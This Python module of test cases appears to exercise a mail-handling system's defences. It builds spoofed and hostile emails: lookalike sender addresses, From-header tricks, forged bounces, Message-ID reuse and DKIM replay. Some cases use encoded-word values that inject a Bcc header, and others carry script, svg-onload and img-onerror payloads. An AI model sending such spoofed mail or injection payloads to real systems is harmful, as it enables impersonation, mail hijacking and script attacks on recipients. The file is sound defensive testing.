"""Variants of kind N: other attacks, each after the letter of the described one."""

from .letters import PROVED, THREAD, case, exchange, exim, letter, postfix, qmail, results, sendmail

STAFF, JOBS, SALES = "staff@example.com", "jobs@example.com", "sales@example.com"
CATCHALL = "catchall@example.com"
BOSS = "Boss <boss@example.com>"
PLAIN = "Content-Type: text/plain; charset=utf-8"
AWAY = "away-@MARK@@private.test"
CUSTOMER_PROVED = results("dkim=pass header.d=cust.example.org")

LOOKALIKES = (
    case("N-full-width", "full-width letters in a colleague's local part",
         letter(exim(), "Boss <ｂｏｓｓ@example.com>", STAFF)),
    case("N-zero-width", "a zero-width space in a colleague's address",
         letter(sendmail(), "Boss <bo\u200bss@example.com>", STAFF)),
    case("N-domain", "a Cyrillic letter in our domain", letter(qmail(), "boss@exаmple.com", STAFF)),
    case("N-encoded-name", "a colleague's address as an encoded display name",
         letter((PROVED, exim()), "=?utf-8?q?boss=40example=2Ecom?= <x@evil.test>", STAFF)),
    case("N-name-with-brackets", "a colleague's mailbox in the quoted display name",
         letter((PROVED, exchange()), '"Boss <boss@example.com>" <x@evil.test>', STAFF)),
    case("N-comment", "a colleague's address in a comment",
         letter((PROVED, postfix()), "x@evil.test (boss@example.com)", STAFF)),
    case("N-two-From", "two From, the second one proved",
         letter((PROVED, sendmail()), None, STAFF, "From: boss@example.com", "From: x@evil.test")),
    case("N-two-mailboxes", "two mailboxes in From, Sender proved",
         letter((PROVED, exim()), "boss@example.com, x@evil.test", STAFF, "Sender: x@evil.test")),
    case("N-group-of-two", "a group in From with a stranger behind a colleague",
         letter((PROVED, qmail()), "Team: boss@example.com, x@evil.test;", STAFF)),
    case("N-group-and-mailbox", "an empty group before a colleague",
         letter((PROVED, exim()), "x:; boss@example.com", STAFF)),
    case("N-encoded-address", "the whole From is an encoded word",
         letter((PROVED, postfix()), "=?utf-8?q?boss=40example=2Ecom?=", STAFF)),
)  # fmt: skip

GMAIL = results("dkim=pass header.d=gmail.test; dmarc=pass header.from=gmail.test")
EMPLOYEES = (
    case("N-end-of-an-employees", "a stranger's address is the end of an employee's",
         letter((GMAIL, exim()), "ote@gmail.test", STAFF)),
    case("N-percent", "a stranger's address matches whatever an employee has",
         letter((GMAIL, postfix()), "%@gmail.test", STAFF)),
    case("N-underscore", "a stranger's address matches an employee's letter for letter",
         letter((GMAIL, qmail()), "_emote@gmail.test", STAFF)),
    case("N-bare-name", "an employee's address, bare, for a display name",
         letter((PROVED, exchange()), "ann remote@gmail.test <x@evil.test>", STAFF)),
    case("N-group-name", "a group's member has an employee's address for a display name",
         letter((PROVED, sendmail()), "all: remote@gmail.test <x@evil.test>", STAFF)),
    case("N-encoded-comma", "an encoded word ends with a comma for one reader",
         letter((PROVED, exim()), "=?utf-8?q?remote=40gmail=2Etest=2C_?= x@evil.test", STAFF)),
)  # fmt: skip

DELIVERY = tuple(
    case(f"N-below-{name}", f"{name} below our hop names a private address",
         letter((hop(), f"{name}: {STAFF}"), "x@evil.test", SALES), same_as="Ni")
    for name, hop in (("Envelope-To", exim), ("X-Envelope-To", sendmail),
                      ("X-Forwarded-To", exchange), ("Delivered-To", qmail))
)  # fmt: skip

AUTOMATIC = tuple(
    case(f"N-absence-{number}", f"an absence notice: {line.splitlines()[0]}",
         letter(hop(), AWAY, JOBS, line), same_as="Nk")
    for number, (line, hop) in enumerate((
        ("Auto-Submitted: auto-replied (vacation)", exim),
        ("X-Autoreply: yes", sendmail),
        ("X-Autorespond: Out of office", qmail),
        ("Auto-Submitted: auto-replied\nX-Auto-Response-Suppress: All", exchange),
    ))
)  # fmt: skip


def _exim_bounce(number):
    text = (
        "A message that you sent could not be delivered:\n\n  @CUSTOMER@\n"
        "    550 5.1.1 User unknown\n\n------ This is a copy of the message ------\n\n"
        "From: colleague@example.com\nTo: @CUSTOMER@\nMessage-ID: @KNOWN@\n\nOur offer"
    )
    fields = "X-Failed-Recipients: @CUSTOMER@\nAuto-Submitted: auto-replied"
    return letter(exim(), f"Mailer-Daemon@evil{number}.test", CATCHALL, fields, body=text)


def _report(number, hop):
    text = (
        "--q\nContent-Type: text/plain\n\nfailed\n--q\n"
        f"Content-Type: message/delivery-status\n\nReporting-MTA: dns; x{number}\n\n"
        "Original-Recipient: rfc822;@CUSTOMER@\nFinal-Recipient: rfc822;@CUSTOMER@\n"
        "Action: failed\nStatus: 5.7.1\n\n--q\nContent-Type: text/rfc822-headers\n\n"
        "Message-ID: @KNOWN@\nTo: @CUSTOMER@\n--q--"
    )
    form = "MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status;"
    trace, sender = f"Return-Path: <>\n{hop()}", f"postmaster@evil{number}.test"
    return letter(trace, sender, CATCHALL, body=text, form=f'{form} boundary="q"')


BOUNCES = (
    case("N-Exim-bounces", "six forged bounces of Exim",
         *map(_exim_bounce, range(6)), same_as="Nm"),
    case("N-Exchange-bounces", "six forged reports of Exchange",
         *(_report(number, exchange) for number in range(6)), same_as="Nm"),
    case("N-qmail-bounces", "six forged reports through qmail",
         *(_report(number, qmail) for number in range(6)), same_as="Nm"),
    case("N-bounces-to-the-token", "six forged bounces to the customer's reply address",
         *(letter(sendmail(), f"Mailer-Daemon@evil{number}.test", "@TOKEN_CUSTOMER@",
                  "X-Failed-Recipients: @CUSTOMER@", body="550 5.1.1 User unknown: @CUSTOMER@")
           for number in range(6)), same_as="Nm"),
)  # fmt: skip


def _relayed(field):
    return letter((CUSTOMER_PROVED, exim()), "@CUSTOMER@", CATCHALL, THREAD, field)


RELAYED = (
    case("N-base64-breaks", "line breaks in a base64 word of Thread-Topic and Comments",
         _relayed("Thread-Topic: =?utf-8?b?eA0KQmNjOiBwbGFudGVkQGV2aWwudGVzdA==?="), same_as="No"),
    case("N-breaks-in-the-name", "line breaks in the display name",
         letter((CUSTOMER_PROVED, sendmail()),
                "=?utf-8?q?C=0D=0ABcc:_planted=40evil.test?= <@CUSTOMER@>", CATCHALL, THREAD),
         same_as="No"),
    case("N-breaks-in-References", "line breaks in References",
         _relayed("References: <a@b>\n =?utf-8?q?=0D=0ABcc:_planted=40evil.test?= @KNOWN@"),
         same_as="No"),
    case("N-breaks-in-Reply-To", "line breaks in Reply-To",
         _relayed("Reply-To: =?utf-8?q?x=0ABcc:_planted=40evil.test?= <@CUSTOMER@>"),
         same_as="No"),
)  # fmt: skip

MARKED_UP = (
    case("N-markup-in-results", "svg in Authentication-Results and Received",
         letter((results("dkim=fail (<svg onload=alert(1)>) header.d=evil.test"),
                 postfix(helo="<script>alert(1)</script>")), "x@evil.test", SALES), same_as="Nr"),
    case("N-markup-encoded", "script in encoded words of From and Subject",
         letter(exim(), "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?= <x@evil.test>",
                "=?utf-8?q?=3Csvg_onload=3Dalert(1)=3E?= <sales@example.com>"), same_as="Nr"),
    case("N-markup-in-a-file", "a handler in the name of a file",
         letter(sendmail(), "x@evil.test", SALES, body="x",
                form='MIME-Version: 1.0\nContent-Type: text/plain; name="<img src=x onerror=a()>"\n'
                     'Content-Disposition: attachment; filename="<img src=x onerror=a()>"'),
         same_as="Nr"),
    case("N-markup-in-the-page", "scripts and handlers in an HTML body",
         letter(qmail(), "x@evil.test", SALES, body=(
             "<p onclick='a()'>Hello</p><script>alert(1)</script><svg onload=alert(2)></svg>"
             "<a href='javascript:alert(3)'>x</a>"),
             form="MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8"), same_as="Nr"),
)  # fmt: skip


def _same_id(hop, sender, to, *more):
    source = letter(hop, sender, to, *more)
    return source.replace(b"<@N@.m@sender.test>", b"<next-@MARK@@cust.example.org>")


USED_BEFORE = tuple(
    case(f"N-used-{number}", f"a stranger used the customer's Message-ID first, {words}",
         _same_id(hop(), "x@evil.test", to, *more),
         _same_id(hop(), "@CUSTOMER@", "@TOKEN_CUSTOMER@", THREAD), same_as="Nt")
    for number, (words, hop, to, more) in enumerate((
        ("to an alias", exim, SALES, ()),
        ("on the same record", sendmail, CATCHALL, (THREAD,)),
        ("to nobody", qmail, "nobody-at-all@example.com", ()),
        ("in the customer's name", exchange, SALES, ("Reply-To: @CUSTOMER@",)),
    ))
)  # fmt: skip

SIGNED = results("dkim=pass header.d=example.com; dmarc=pass header.from=example.com")
BY_ENVELOPE = "X-Original-To: staff@example.com"
# What the boss once wrote to somebody else, sent again by whoever got it (RFC 6376 §8.6).
REPLAYED = (
    case("N-replay-Postfix", "a signed message to a customer, at the alias for employees",
         letter((BY_ENVELOPE, SIGNED, postfix()), BOSS, "lena@customer.test"), same_as="N-replay"),
    case("N-replay-Exim", "the same, with a copy to a colleague",
         letter((BY_ENVELOPE, SIGNED, exim()), BOSS, "colleague@example.com",
                "Cc: lena@customer.test"), same_as="N-replay"),
    case("N-replay-named", "the alias is only the display name",
         letter((BY_ENVELOPE, SIGNED, sendmail()), BOSS,
                '"staff@example.com" <lena@customer.test>'), same_as="N-replay"),
    case("N-replay-our-check", "where our own check of the signature is the proof",
         letter((BY_ENVELOPE, qmail()), BOSS, "lena@customer.test"), signed="example.com",
         same_as="N-replay"),
)  # fmt: skip

OTHERS = (
    *EMPLOYEES,
    *REPLAYED,
    *LOOKALIKES,
    *DELIVERY,
    *AUTOMATIC,
    *BOUNCES,
    *RELAYED,
    *MARKED_UP,
    *USED_BEFORE,
)
